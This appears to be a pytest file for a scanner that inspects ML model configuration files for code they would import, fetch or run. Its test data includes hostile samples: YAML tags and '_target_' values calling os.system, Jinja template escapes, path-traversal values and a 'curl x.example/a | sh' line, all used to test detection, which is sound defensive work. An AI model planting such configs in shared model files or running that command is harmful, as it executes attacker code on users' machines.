"""Settings beside a model: what loaders would import, fetch or read."""

from __future__ import annotations

import base64
import json
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from mlsecops.models.inspection import Inspection
from mlsecops.models.json_text import parse_bytes
from mlsecops.models.named import UNKNOWN_IMPORT
from mlsecops.models.readers.configs import JsonConfigReader, YamlConfigReader
from mlsecops.models.readers.safetensors import SafetensorsReader
from mlsecops.models.walk import UnreadableError
from mlsecops.models.yaml_text import LONGEST, parse
from support.judges import judge_name
from support.parts import read_with, reasons, rules
from support.witness import MARK, Witness

READERS = (JsonConfigReader(judge_name), YamlConfigReader(judge_name))
REMOTE, OTHER, CALLS = "config-remote-code", "config-other-repository", "config-calls-code"


def read(folder: Path, value: Any) -> Inspection:
    data = value.encode() if isinstance(value, str) else json.dumps(value).encode()
    return read_with(folder, data, *READERS)


PROMPT = ["langchain_core", "prompts", "PromptTemplate"]


HARMLESS: list[Any] = [
    {"lc": 1, "id": PROMPT, "kwargs": {"template": "{x}", "template_format": "f-string"}},
    {"lc": 1, "type": "secret", "id": None},
    {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "_attn_implementation": "sdpa"},
    {"model_type": "x", "auto_map": {}, "trust_remote_code": False, "_name_or_path": "/home/me/llama"},
    {"tokenizer_class": "T", "chat_template": "{% for m in messages %}{{ m.content }}{% endfor %}"},
    {"tokenizer_class": "T", "chat_template": [{"name": "__class__", "template": "{{ messages }}"}]},
    {
        "peft_type": "LORA",
        "auto_mapping": {"base_model_class": "X", "parent_library": "transformers.models.x"},
    },
    {"peft_type": "LORA", "auto_mapping": None},
    {
        "_class_name": "StableDiffusionPipeline",
        "_diffusers_version": "0.30",
        "unet": ["diffusers", "UNet2DConditionModel"],
        "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"],
        "feature_extractor": [None, None],
    },
    {"_class_name": "UNet", "model_type": "x"},
    [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}],
    [{"type": "x"}, 3],
    {"weight_map": {"a": "model-00001-of-00002.safetensors"}},
    {"model": {"modelName": "m", "handler": "image_classifier", "serializedFile": "m.pt"}},
    {"model": {"type": "BPE"}, "bos_token": "<s>"},
    {"_target_": "torch.optim.Adam", "lr": 0.1, "inner": {"_target_": "sklearn.svm.SVC"}},
    {"_target_": "${model.target}"},
    {"custom_pipelines": {"x": "no"}, "model_type": "x"},
    "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n",
    "flavors:\n  python_function: none\n",
    "module: bentoml.sklearn\nbentoml_version: 1.2\ncontext: {}\n",
    "target: some.Class\n",
    "target: some.Class\nparams: {}\n",
    "a: &a {_target_: sklearn.svm.SVC}\nb: *a\nc:\n  <<: *a\n  d: 1\n",
    "a: !!python/tuple [1, 2]\nb: !!str x\nc: !local y\n",
]


@pytest.mark.parametrize("value", HARMLESS)
def test_what_libraries_write_is_no_fact(tmp_path: Path, value: Any) -> None:
    found = read(tmp_path, value)
    assert (found.facts, found.unread) == ({}, [])


CODE: list[tuple[Any, list[str]]] = [
    ({"auto_map": {"AutoModel": "modeling_x.Model"}}, [REMOTE]),
    ({"auto_map": {"AutoModel": "me/repo--modeling_x.Model"}}, [OTHER]),
    ({"auto_map": {"AutoTokenizer": ["me/repo--tok.T", None]}}, [OTHER]),
    ({"auto_map": ["tok.T", None]}, [REMOTE]),
    ({"inner": {"auto_map": {"A": "b.C"}}}, [REMOTE]),
    ({"trust_remote_code": True}, ["config-trusts-remote-code"]),
    ({"trust_remote_code": "yes"}, ["config-trusts-remote-code"]),
    ({"custom_pipelines": {"x": {"impl": "p.Pipeline"}}}, [REMOTE]),
    ({"custom_pipeline": "me/repo"}, [OTHER]),
    ({"_attn_implementation_internal": "me/kernels:f"}, [OTHER]),
    ({"attn_implementation": {"text": "me/kernels"}}, [OTHER]),
    ({"chat_template": "{{ ''.__class__ }}"}, ["template-escape"]),
    ({"chat_template": {"default": "{{ ''.__class__ }}"}}, ["template-escape"]),
    ({"chat_template": [{"name": "a", "template": "{{ ''.__class__ }}"}]}, ["template-escape"]),
    ({"auto_mapping": {"base_model_class": "X", "parent_library": "transformers_modules.x"}}, [REMOTE]),
    ({"auto_mapping": {"base_model_class": "system", "parent_library": "os"}}, [CALLS]),
    ({"_class_name": ["pipeline", "P"]}, [REMOTE]),
    ({"_class_name": "P", "_diffusers_version": "1", "unet": ["my_unet", "U"]}, [REMOTE]),
    ({"_class_name": "P", "_diffusers_version": "1", "unet": ["os", "system"]}, [CALLS]),
    ({"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {}}, [CALLS]),
    ({"lc": 1, "type": "constructor", "id": ["mine", "Chain"], "kwargs": {}}, [UNKNOWN_IMPORT]),
    (
        {"lc": 1, "id": PROMPT, "kwargs": {"template": "{{ ''.__class__ }}", "template_format": "jinja2"}},
        ["template-escape"],
    ),
    ([{"path": "", "type": "os.system"}], [CALLS]),
    ([{"path": "", "type": "custom_st.Transformer"}], [REMOTE]),
    ([{"path": "", "type": "nodots"}], [UNKNOWN_IMPORT]),
    ({"weight_map": {"a": "../../secret"}}, ["config-path-escapes"]),
    (
        {"model": {"modelName": "m", "handler": "handler.py", "modelFile": "/x.py"}},
        ["config-path-escapes", REMOTE],
    ),
    ({"a": [{"_target_": "os.system", "_args_": ["echo"]}]}, [CALLS]),
    ({"_target_": "mine.Thing"}, [UNKNOWN_IMPORT]),
    ({"model_type": "x", "target": "subprocess.run", "params": {}}, [CALLS]),
    ("m:\n- _target_: os.system\n", [CALLS]),
    ('m:\n- "\\x5ftarget_": os.system\n', [CALLS]),
    ("{m: {_target_: os.system}}", [CALLS]),
    ("flavors:\n  python_function:\n    loader_module: runpy\n", [CALLS]),
    (
        "flavors:\n  python_function:\n    loader_module: mine.loader\n    code: code\n",
        ["mlflow-code", UNKNOWN_IMPORT],
    ),
    ("flavors:\n  python_function:\n    model_code_path: ../x.py\n", ["config-path-escapes", "mlflow-code"]),
    ("flavors:\n  python_function:\n    data: /etc\n", ["config-path-escapes"]),
    ("module: os\nbentoml_version: 1\ncontext: {bentoml_version: 1}\n", [CALLS]),
    ("m: !!python/object/apply:os.system [echo]\n", ["yaml-python-object"]),
    ("%TAG ! tag:yaml.org,2002:python/\n---\nm: !name:os.system ''\n", ["yaml-python-object"]),
    ("m: !<tag:yaml.org,2002:python/object/new:os.system> []\n", ["yaml-python-object"]),
    ({"model_type": "x", "note": "curl x.example/a | sh"}, ["embedded-command"]),
]


@pytest.mark.parametrize(("value", "expected"), CODE)
def test_code_that_comes_along_is_found(tmp_path: Path, value: Any, expected: list[str]) -> None:
    assert rules(read(tmp_path, value)) == sorted(expected)


@pytest.mark.parametrize(("name", "severity"), [("os.x", None), ("sklearn.X", 5.0), ("mine.X", 6.5)])
def test_an_object_in_yaml_counts_by_its_name(tmp_path: Path, name: str, severity: float | None) -> None:
    found = read(tmp_path, f"a: !!python/object:{name} {{}}\n")
    assert [fact.severity for fact in found.facts.values()] == [severity]


def test_objects_in_base64_are_read(tmp_path: Path) -> None:
    def policy(data: bytes) -> tuple[list[bytes], list[str]]:
        witness = Witness()
        text = json.dumps({"policy_class": {":type:": "x", ":serialized:": data.decode("latin-1")}})
        found = read_with(tmp_path, text.encode(), *READERS, witness)
        return witness.contents, reasons(found)

    assert policy(base64.b64encode(MARK)) == ([MARK], [])
    assert policy(base64.b64encode(b"no")) == ([], ["nothing here knows its format"])
    assert policy(b"no Base64") == ([], ["it is not in Base64"])


def test_settings_in_metadata_are_looked_at(tmp_path: Path) -> None:
    metadata = {"__metadata__": {"a": '{"_target_": "os.system"}', "b": "{no json"}}
    header = json.dumps(metadata).encode()
    data = len(header).to_bytes(8, "little") + header
    assert rules(read_with(tmp_path, data, SafetensorsReader(judge_name))) == [CALLS]


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"flavors: [", "YAML"),
        (b"flavors: *x", "YAML"),
        (b"flavors: \xff" + b" " * 5000, "nobody"),
        (b"flavors: " + b" " * 5000 + b"\xff", "UTF-8"),
        (b"flavors:\n" + b"- a\n" * (LONGEST // 4 + 1), "longer"),
        (b"flavors: " + b"[" * 200, "nested"),
        (b'flavors: "\\UFFFFFFFF"', "YAML"),
        (b'{"a": 1}', "nobody"),
        (b"a: 1", "nobody"),
        (b"\0flavors: 1", "nobody"),
        (b'Vtext " of \\u0000\n' + b" " * 5000 + b"\xff and so on", "nobody"),
        (b'{"model_type": "x", "chat_template": "{% if"}', "Jinja"),
    ],
)
def test_what_cannot_be_read_says_so(tmp_path: Path, data: bytes, reason: str) -> None:
    assert reason in " ".join(reasons(read_with(tmp_path, data, *READERS)))


def test_values_named_again_and_again_have_a_bound(tmp_path: Path) -> None:
    lines = ["a0: &a0 {_target_: sklearn.svm.SVC}"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12)]
    assert "again and again" in reasons(read(tmp_path, "\n".join(lines)))[0]


def test_a_long_file_of_settings_is_only_json(tmp_path: Path) -> None:
    tokens = {str(number): {"content": f"<{number}>", "special": True} for number in range(9000)}
    found = read(tmp_path, {"tokenizer_class": "T", "added_tokens_decoder": tokens})
    assert (found.formats, found.unread) == (["configuration (JSON)"], [])


def test_templates_together_have_a_bound(tmp_path: Path) -> None:
    many = [{"name": str(number), "template": "{{ messages }}" * 900} for number in range(12)]
    assert "templates are longer" in reasons(read(tmp_path, {"chat_template": many}))[0]


@pytest.mark.parametrize(
    "text", ["\n" * 120_000, "," * 120_000, '"' + "\\x" * 40_000, " ? - " * 25_000, '"' * 120_000]
)
def test_looking_for_names_takes_no_time(tmp_path: Path, text: str) -> None:
    before = time.process_time()
    read(tmp_path, text + "x")
    assert time.process_time() - before < 5


def test_yaml_is_put_together_as_written() -> None:
    documents = parse("a: [1, {b: c}]\n? [x]\n: y\n---\n- &z {q: 1}\n- <<: [*z, 3]\n  q2: 2\n")
    assert documents.values == [
        {"a": ["1", {"b": "c"}], "<class 'list'>": "y"},
        [{"q": "1"}, {"q": "1", "q2": "2"}],
    ]


def test_json_has_bounds() -> None:
    with pytest.raises(UnreadableError, match="more values"):
        parse_bytes(b"[" + b"1," * 1_000_001 + b"1]")
    assert parse_bytes(b'\xef\xbb\xbf{"a": 1, "a": 2, "b": 3}').repeated == {"a"}


_NAMES = (
    *(
        "auto_map",
        "custom_pipelines",
        "chat_template",
        "_target_",
        "auto_mapping",
        "_class_name",
        "weight_map",
    ),
    *("model", "flavors", "type", "path", "module", "target", "params", "python_function", "loader_module"),
    *("_diffusers_version", "modelName", "handler", "impl", "template", "parent_library", "context"),
)


@settings(max_examples=100, deadline=None)
@given(
    st.recursive(
        st.none() | st.text("ab./{-$", max_size=9) | st.booleans(),
        lambda inner: (
            st.lists(inner, max_size=3)
            | st.dictionaries(
                st.sampled_from(_NAMES),
                inner,
                max_size=4,
            )
        ),
        max_leaves=25,
    )
)
def test_any_settings_are_read_or_not(tmp_path_factory: pytest.TempPathFactory, value: Any) -> None:
    found = read(
        tmp_path_factory.getbasetemp(), {"model_type": "x", "auto_map": value, "flavors": value, "x": value}
    )
    assert not any("itself failed" in reason for reason in reasons(found))
